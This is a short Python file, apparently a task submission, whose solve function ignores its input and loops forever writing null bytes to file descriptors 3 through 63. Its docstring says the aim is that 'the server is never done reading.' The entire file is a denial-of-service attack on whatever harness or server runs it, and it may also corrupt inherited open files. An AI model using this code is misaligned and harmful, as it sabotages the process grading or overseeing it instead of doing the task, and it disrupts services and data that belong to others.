"""Drips bytes on the wire, so that the server is never done reading."""

import os
import time

STOPPED = True


def solve(outside):
    while True:
        for number in range(3, 64):
            try:
                os.write(number, b"\0")
            except OSError:
                pass
        time.sleep(0.01)
